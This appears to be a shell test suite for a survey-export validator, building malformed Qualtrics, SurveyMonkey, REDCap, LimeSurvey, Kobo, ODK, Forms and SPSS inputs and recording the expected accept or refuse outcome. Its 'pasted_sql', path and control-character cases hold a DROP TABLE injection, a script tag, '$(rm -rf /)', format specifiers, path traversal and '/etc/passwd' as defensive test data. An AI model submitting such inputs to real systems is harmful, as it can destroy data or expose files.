hostile null_words 'words that programs write for nothing' '' 'accept 4 | cell-code cell-not-finite cell-type*2' <<'X'
header; echo 'kanarie1,north,NA,walk,NULL'; echo 'kanarie2,south,NULL,walk,kanarie'
echo 'kanarie3,north,nan,NA,kanarie'; row 4
X
hostile tick_all_exclusive 'nothing ticked together with something' '' 'accept 3 | cell-multi-exclusive' \
	'hobbies: walk;read/none/walk;none' <<'X'
header; echo 'kanarie1,north,41,walk;read,kanarie'; echo 'kanarie2,south,42,none,kanarie'
echo 'kanarie3,north,43,walk;none,kanarie'
X
hostile tick_all_boxes 'boxes that hold neither a tick nor none' 'headers: boxes' 'accept 4 | cell-code' \
	'hobbies: walk/walk;read//maybe' <<'X'
echo 'id,area,age,likes_walk,likes_read,comment'
echo 'kanarie1,north,41,x,no,kanarie'; echo 'kanarie2,south,42,x,x,kanarie'
echo 'kanarie3,north,43,,no,kanarie'; echo 'kanarie4,south,44,maybe,no,kanarie'
X
hostile tick_all_box_missing 'no column for one of the options: nobody could tick it' 'headers: boxes' \
	'accept 2 | header-column-missing' 'hobbies: walk/walk' <<'X'
echo 'id,area,age,likes_walk,comment'; echo 'kanarie1,north,41,x,kanarie'; echo 'kanarie2,south,42,x,kanarie'
X
hostile control_characters 'control characters in a text' '' 'accept 3' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kana\033[31mrie\a\b\n'; row 3
X
hostile pasted_sql 'answers that try to be SQL, a shell, a page' '' 'accept 3' <<'X'
header; row 1; echo "kanarie2,south,42,walk,\"'); DROP TABLE answers; -- kanarie\""
echo 'kanarie3,north,43,walk,<script>kanarie</script> $(rm -rf /) %s%n'
X

# --- the config ---

hostile platform_unknown 'a platform that there is not' 'platform: qualtrix' 'refuse 78 config' <<'X'
header; rows 1 3
X
hostile headers_unknown 'a profile that headers.csv has no row of' 'headers: papers' 'refuse 78 config' <<'X'
header; rows 1 3
X
hostile path_climbs 'a path that leads out of the folder' 'path: ../made.csv' 'refuse 78 config' <<'X'
(header; rows 1 3) >../made.csv
X
hostile path_absolute 'a path from the root' 'path: /etc/passwd' 'refuse 78 config' <<'X'
header; rows 1 3
X
hostile path_odd 'a path with blanks and letters beyond ASCII' 'path: "sub folder/ü (1) %s.csv"' 'accept 3' <<'X'
mkdir 'sub folder'; (header; rows 1 3) >'sub folder/ü (1) %s.csv'
X
hostile where 'rows of other datasets' 'where: [{column: event, values: [baseline]}]' \
	'accept 2 | header-column-unknown row-elsewhere*3' <<'X'
(header; rows 1 5) | sed '1s/$/,event/; 2,3s/$/,baseline/; 4,5s/$/,geheim/; 6s/$/,/'
X
hostile where_blank 'rows whose cell is blank' 'where: [{column: event, values: [""]}]' \
	'accept 1 | header-column-unknown row-elsewhere*2' <<'X'
(header; rows 1 3) | sed '1s/$/,event/; 2,3s/$/,baseline/; 4s/$/,/'
X
hostile where_missing 'rows are told apart by a column that there is not' 'where: [{column: event, values: [baseline]}]' \
	'refuse 78 config' <<'X'
header; rows 1 3
X
hostile where_none 'all rows are of other datasets' 'where: [{column: event, values: [baselin]}]' \
	'refuse 65 file-no-rows' <<'X'
(header; rows 1 3) | sed '1s/$/,event/; 1!s/$/,baseline/'
X

# --- Qualtrics ---

qualtrics_header() {
	cat <<-'CSV'
		StartDate,Status,IPAddress,Finished,ResponseId,Q1,Q2,Q3_1,Q3_2,Q4
		Start Date,Response Type,IP Address,Finished,Response ID,Where do you live?,How old are you?,"What do you like
		to do? - Walking","What do you like
		to do? - Reading",Anything else?
		"{""ImportId"":""startDate"",""timeZone"":""Europe/London""}","{""ImportId"":""status""}","{""ImportId"":""ipAddress""}","{""ImportId"":""finished""}","{""ImportId"":""_recordId""}","{""ImportId"":""QID1""}","{""ImportId"":""QID2""}","{""ImportId"":""QID3"",""choiceId"":""1""}","{""ImportId"":""QID3"",""choiceId"":""2""}","{""ImportId"":""QID4_TEXT""}"
	CSV
}

qualtrics_rows() { # FIRST LAST [STATUS FINISHED]
	for n in $(seq "$1" "$2"); do
		echo "2026-02-01 10:00:00,${3:-IP Address},geheim,${4:-TRUE},kanarie$n,1,$((40 + n)),1,,kanarie"
	done
}

hostile qualtrics 'previews, tests, spam and unfinished responses' 'platform: qualtrics' \
	'accept 3, 1 row-incomplete, 2 row-preview, 1 row-rejected | privacy-column*7' \
	'hobbies: walk/walk/walk/walk/walk/walk/walk' <<'X'
qualtrics_header; qualtrics_rows 1 3; qualtrics_rows 4 4 'Survey Preview'; qualtrics_rows 5 5 'IP Address' FALSE
qualtrics_rows 6 6 Spam; qualtrics_rows 7 7 'Vorschau'
X
hostile qualtrics_unfinished 'unfinished responses, kept' 'platform: qualtrics, unfinished: kept' \
	'accept 3, 1 row-preview | privacy-column*4 row-incomplete*2' <<'X'
qualtrics_header; qualtrics_rows 1 2; qualtrics_rows 3 3 'IP Address' FALSE; qualtrics_rows 4 4 'Survey Preview' FALSE
X
hostile qualtrics_untold 'the columns that tell previews and unfinished responses were taken out' 'platform: qualtrics' \
	'accept 3 | header-column-missing*2 privacy-column*3' <<'X'
cat <<'CSV'
IPAddress,ResponseId,Q1,Q2,Q3_1,Q3_2,Q4
IP Address,Response ID,Where do you live?,How old are you?,Walking,Reading,Anything else?
"{""ImportId"":""ipAddress""}","{""ImportId"":""_recordId""}","{""ImportId"":""QID1""}","{""ImportId"":""QID2""}","{""ImportId"":""QID3"",""choiceId"":""1""}","{""ImportId"":""QID3"",""choiceId"":""2""}","{""ImportId"":""QID4_TEXT""}"
CSV
qualtrics_rows 1 3 | cut -d, -f3,5-
X
hostile qualtrics_previews 'nothing but previews' 'platform: qualtrics' \
	'accept 0, 2 row-preview | privacy-column*2' <<'X'
qualtrics_header; qualtrics_rows 1 2 'Survey Preview'
X
hostile qualtrics_as_plain 'Qualtrics, read as plain' '' 'refuse 65 header-rows' <<'X'
qualtrics_header; qualtrics_rows 1 3
X
hostile qualtrics_as_plain_by_name 'the same with the names of its columns: its other headers are no respondents' \
	'headers: by-name' 'refuse 65 header-rows' <<'X'
qualtrics_header; qualtrics_rows 1 3
X
hostile plain_as_qualtrics 'plain, read as Qualtrics: two respondents would be headers' 'platform: qualtrics' \
	'refuse 65 header-rows' <<'X'
header; rows 1 4
X
hostile qualtrics_two_rows 'Qualtrics without the row of import ids' 'platform: qualtrics' 'refuse 65 header-rows' <<'X'
qualtrics_header | head -n 4; qualtrics_rows 1 3
X
hostile qualtrics_cut 'Qualtrics, cut off after its second header row' 'platform: qualtrics' \
	'refuse 65 header-rows' <<'X'
qualtrics_header | head -n 4
X
hostile qualtrics_dropped_named 'the dictionary names a column that the profile drops' 'platform: qualtrics, headers: qualtrics-ip' \
	'refuse 78 config' <<'X'
qualtrics_header; qualtrics_rows 1 3
X
hostile qualtrics_dropped_kept 'a column that the profile drops, and the config keeps' \
	'platform: qualtrics, headers: qualtrics-ip, keep: [IPAddress]' 'accept 3 | header-column-missing header-column-unknown*3' \
	'comment: kanarie-ip/kanarie-ip/kanarie-ip' <<'X'
qualtrics_header; qualtrics_rows 1 3 | sed 's/geheim/kanarie-ip/; s/,1,,kanarie$/,,,geheim/'
X
qualtrics_moved() { # NAME_OF_A_QUESTION
	cat <<-CSV
		Finished,$1,Status,Q8,IPAddress,ResponseId,Q7_1,Q7_4,Q6
		Finished,How old?,Response Type,Where?,IP Address,Response ID,Walks,Reads,Else
		"{""ImportId"":""finished""}","{""ImportId"":""QID2""}","{""ImportId"":""status""}","{""ImportId"":""QID1""}","{""ImportId"":""ipAddress""}","{""ImportId"":""_recordId""}","{""ImportId"":""QID3"",""choiceId"":""1""}","{""ImportId"":""QID3"",""choiceId"":""2""}","{""ImportId"":""QID4_TEXT""}"
		TRUE,41,IP Address,1,geheim,kanarie1,1,1,kanarie
		TRUE,42,IP Address,1,geheim,kanarie2,1,1,kanarie
		TRUE,43,Survey Preview,1,geheim,kanarie3,1,1,kanarie
	CSV
}

hostile qualtrics_moved 'other names and another order, the same import ids' 'platform: qualtrics' \
	'accept 2, 1 row-preview | privacy-column*3' 'age: 41/42/43' <<'X'
qualtrics_moved Q9
X
hostile qualtrics_status_twice 'a question that is named like a column of the platform, and stands before it: it decides nothing' \
	'platform: qualtrics' 'accept 2, 1 row-preview | privacy-column*3' 'age: 41/42/43' <<'X'
qualtrics_moved Status
X

legacy_header() {
	printf '\357\273\277'
	cat <<-'CSV'
		V1,V6,V7,V10,Q1,Q2,Q4,
		ResponseID,IPAddress,Status,Finished,Where do you live?,How old are you?,Anything else?,
	CSV
}

hostile legacy 'the legacy exporter: a mark, two header rows, a comma at every end' 'platform: qualtrics-legacy' \
	'accept 2, 1 row-preview | file-byte-order-mark header-column-missing privacy-column*3' <<'X'
legacy_header; printf 'kanarie%s,geheim,%s,1,1,41,kanarie,\n' 1 0 2 0 3 1
X
hostile legacy_trailing 'a last cell that is not blank, and a row without it' 'platform: qualtrics-legacy' \
	'accept 2, 1 row-fields | file-byte-order-mark header-column-missing privacy-column*2' <<'X'
legacy_header; echo 'kanarie1,geheim,0,1,1,41,kanarie,'; echo 'kanarie2,geheim,0,1,1,42,kanarie,or not'
echo 'kanarie3,geheim,0,1,2,43,kanarie'
X
hostile legacy_as_qualtrics 'the legacy exporter, read as today’s' 'platform: qualtrics' 'refuse 65 header-rows' <<'X'
legacy_header; printf 'kanarie%s,geheim,0,1,1,41,kanarie,\n' 1 2 3
X
hostile qualtrics_as_legacy 'today’s exporter, read as the legacy one' 'platform: qualtrics-legacy' \
	'refuse 65 header-rows' <<'X'
qualtrics_header; qualtrics_rows 1 3
X

# --- SurveyMonkey ---

monkey_header() {
	cat <<-'CSV'
		Respondent ID,IP Address,Where do you live?,How old are you?,What do you like to do?,,Anything else?
		,,Response,Open-Ended Response,Walking,Reading,Open-Ended Response
	CSV
}

hostile surveymonkey 'two header rows, and ticked boxes that hold their own text' 'platform: surveymonkey' 'accept 3 | privacy-column*3' \
	'hobbies: walk/walk;read/' <<'X'
monkey_header; echo 'kanarie1,geheim,North,41,Walking,,kanarie'
echo 'kanarie2,geheim,South,42,Walking,Reading,kanarie'; echo 'kanarie3,geheim,North,43,,,kanarie'
X
hostile surveymonkey_one_row 'SurveyMonkey with one header row: a respondent would be the other' 'platform: surveymonkey' \
	'refuse 65 header-rows' <<'X'
monkey_header | head -n 1; echo 'kanarie1,geheim,North,41,Walking,,kanarie'
echo 'kanarie2,geheim,South,42,Walking,Reading,kanarie'
X
hostile surveymonkey_header_only 'SurveyMonkey with its first header row alone' 'platform: surveymonkey' \
	'refuse 65 header-rows' <<'X'
monkey_header | head -n 1
X
hostile surveymonkey_boxes_renamed 'a box that holds another text' 'platform: surveymonkey' \
	'accept 2 | cell-code privacy-column*2' <<'X'
monkey_header; echo 'kanarie1,geheim,North,41,Strolling,,kanarie'
echo 'kanarie2,geheim,South,42,Walking,Reading,kanarie'
X

# --- Jisc, REDCap, LimeSurvey, Kobo, ODK, Microsoft Forms ---

hostile jisc_zeros 'zeros in the boxes of a wholly blank response' 'platform: jisc' 'accept 2, 1 row-no-answers' \
	'hobbies: walk//read' <<'X'
echo 'URN,Q1,Q2,Q3_1,Q3_2,Q4,CompletionDate'
echo '"kanarie1","1","41","1","0","kanarie","2026-02-02"'; echo '"kanarie2",,,"0","0",,"2026-02-02"'
echo '"kanarie3","2","43","0","1","kanarie","2026-02-02"'
X
hostile redcap_repeats 'repeats of a form beside the record itself' \
	'platform: redcap, where: [{column: redcap_repeat_instrument, values: [""]}]' 'accept 2 | privacy-column*2 row-elsewhere*3' \
	'hobbies: walk/read' <<'X'
echo 'record_id,redcap_repeat_instrument,redcap_repeat_instance,redcap_survey_identifier,area,age,hobbies___1,hobbies___2,comment,survey_complete'
echo 'kanarie1,,,geheim,north,41,1,0,kanarie,2'; echo 'kanarie1,visits,1,,,,0,0,geheim,'
echo 'kanarie1,visits,2,,,,0,0,geheim,'
echo 'kanarie2,,,geheim,south,42,0,1,kanarie,2'; echo 'kanarie2,visits,1,,,,0,0,geheim,'
X
hostile redcap_never_asked 'zeros in the boxes of a form that was never opened' 'platform: redcap' 'accept 1, 1 row-required | header-column-missing' \
	'hobbies: walk/' <<'X'
echo 'record_id,area,hobbies___1,hobbies___2,comment'; echo 'kanarie1,north,1,0,kanarie'; echo 'kanarie2,,0,0,kanarie'
X

lime() {
	printf '\357\273\277"id";"submitdate";"ipaddr";"G1Q1";"G1Q2";"G1Q3[SQ1]";"G1Q3[SQ2]";"G1Q4"\r\n'
}

hostile limesurvey 'quoted semicolons, LF in cells, unfinished responses, a blank line at the end' 'platform: limesurvey' \
	'accept 2, 1 row-incomplete | file-byte-order-mark privacy-column*3 row-blank' 'hobbies: walk;read/walk/' <<'X'
lime; printf '"1";"2026-02-02 10:00:00";"geheim";"north";"41";"Y";"Y";"kanarie\nin a cage"\r\n'
printf '"2";"2026-02-02 10:00:00";"geheim";"south";"42";"Y";"";"kanarie"\r\n'
printf '"3";"";"geheim";"north";"";"";"";"kanarie"\r\n\r\n'
X
hostile limesurvey_none 'a survey without responses: one record of blanks' 'platform: limesurvey' \
	'accept 0, 1 row-incomplete | file-byte-order-mark row-blank' <<'X'
lime; printf '"";"";"";"";"";"";"";""\r\n\r\n'
X
hostile limesurvey_vv 'a question that was not shown' 'platform: limesurvey-vv' 'accept 2 | header-column-missing' \
	'age: {question_not_shown}/42' <<'X'
printf 'Response ID\tDate submitted\tWhere do you live?\tHow old are you?\tAnything else?\nid\tsubmitdate\tG1Q1\tG1Q2\tG1Q4\n'
printf '1\t2026-02-02 10:00:00\tnorth\t{question_not_shown}\tkanarie\n2\t2026-02-02 10:00:00\tsouth\t42\tkanarie{newline}\n'
X

kobo() {
	echo '"_uuid";"area";"age";"hobbies";"hobbies/walk";"hobbies/read";"comment";"_submitted_by";"_validation_status"'
}

kobo_rows() {
	echo '"kanarie1";"north";"41";"walk read";"1";"1";"kanarie";"geheim";""'
	echo '"kanarie2";"south";"42";"";"0";"0";"kanarie";"geheim";"validation_status_approved"'
	echo '"kanarie3";"south";"43";"";"";"";"kanarie";"";"validation_status_not_approved"'
}

hostile kobo_tags 'a row of HXL tags below the header' 'platform: kobo' \
	'accept 2, 1 row-rejected | header-column-unknown privacy-column*2' 'hobbies: walk;read/(none)/' <<'X'
kobo; echo '"#meta+id";"#adm1";"#respondent+age";"";"";"";"";"";""'; kobo_rows
X
hostile kobo_untagged 'no row of tags' 'platform: kobo' \
	'accept 2, 1 row-rejected | header-column-unknown privacy-column*2' 'hobbies: walk;read/(none)/' <<'X'
kobo; kobo_rows
X
hostile kobo_answer_like_tag 'the first respondent begins an answer with #' 'platform: kobo' \
	'accept 2, 1 row-rejected | header-column-unknown privacy-column*2' 'comment: #kanarie/kanarie/kanarie' <<'X'
kobo; kobo_rows | sed '1s/;"kanarie"/;"#kanarie"/'
X
hostile odk 'responses that are encrypted or rejected' 'platform: odk' \
	'accept 1, 1 row-rejected, 1 row-undecrypted | privacy-column*3' 'hobbies: walk read//walk' <<'X'
echo 'SubmissionDate,area,age,hobbies,comment,KEY,SubmitterName,Status,ReviewState'
echo '2026-02-02T10:00:00.000Z,north,41,walk read,kanarie,kanarie1,geheim,,'
echo '2026-02-02T10:00:00.000Z,,,,,kanarie2,geheim,not decrypted,'
echo '2026-02-02T10:00:00.000Z,south,43,walk,kanarie,kanarie3,geheim,,rejected'
X
hostile microsoft_forms 'no-break blanks and line ends in headers, answers that end with the delimiter of answers' \
	'platform: microsoft-forms' 'accept 2 | file-byte-order-mark header-hidden-char privacy-column*2' \
	'hobbies: Walking;Reading;/Walking;' <<'X'
printf '\357\273\277ID,Start time,Email,Name,Where do you live?\302\240,"How old are you?\n",What do you like to do?,Anything else?\r\n'
printf '1,5/10/21 9:36:44,geheim,,North,41,Walking;Reading;,kanarie\r\n2,5/10/21 9:36:44,geheim,,South,42,Walking;,kanarie\r\n'
X
hostile contact 'an e-mail address in an answer' '' 'accept 3 | privacy-contact' <<'X'
header; rows 1 2; echo 'kanarie3,north,43,walk,write to kanarie@cage.example'
X

# --- SPSS ---

hostile sav 'an SPSS file' 'platform: spss' 'accept 4 | cell-range' 'hobbies: walk;read/walk/walk;read/walk' <<'X'
"$sav" export.csv 4
X
hostile zsav 'a packed SPSS file' 'platform: spss' 'accept 300 | cell-range' <<'X'
"$sav" export.csv 300 zsav
X
hostile sav_declared 'a value that the file declares missing, and gives no reason for' 'platform: spss' \
	'accept 4 | cell-missing-declared' 'age: 41/-9//44' <<'X'
"$sav" export.csv 4 declared
X
hostile sav_no_cases 'an SPSS file without respondents' 'platform: spss' 'refuse 65 file-no-rows' <<'X'
"$sav" export.csv 0
X
hostile sav_truncated 'an SPSS file that is cut off among its respondents' 'platform: spss' \
	'refuse 65 file-truncated' <<'X'
"$sav" ../whole 300; head -c -5000 ../whole
X
hostile sav_truncated_case 'an SPSS file that lacks its last respondent' 'platform: spss' \
	'refuse 65 file-truncated' <<'X'
"$sav" ../whole 4; "$sav" ../less 3; head -c "$(wc -c <../less)" ../whole
X
hostile sav_truncated_head 'an SPSS file that is cut off in its dictionary' 'platform: spss' \
	'refuse 65 file-truncated' <<'X'
"$sav" ../whole 4; head -c 400 ../whole
X
hostile sav_flipped 'an SPSS file with another byte in its dictionary' 'platform: spss' 'refuse 65 file-corrupt' <<'X'
"$sav" ../whole 4; head -c 176 ../whole; printf '\115'; tail -c +178 ../whole
X
hostile zsav_truncated 'a packed SPSS file that is cut off' 'platform: spss' 'refuse 65 file-truncated' <<'X'
"$sav" ../whole 3000 zsav; head -c -200 ../whole
X
hostile zsav_flipped 'a packed SPSS file with other bytes among its respondents' 'platform: spss' \
	'refuse 65 file-corrupt' <<'X'
"$sav" ../whole 3000 zsav; size=$(wc -c <../whole)
head -c $((size - 400)) ../whole; many 40 '\377'; tail -c 360 ../whole
X
hostile sav_as_text 'an SPSS file, read as plain' '' 'refuse 65 header-rows' <<'X'
"$sav" export.csv 4
X
hostile text_as_sav 'plain, read as an SPSS file' 'platform: spss' 'refuse 65 header-rows' <<'X'
header; rows 1 3
X
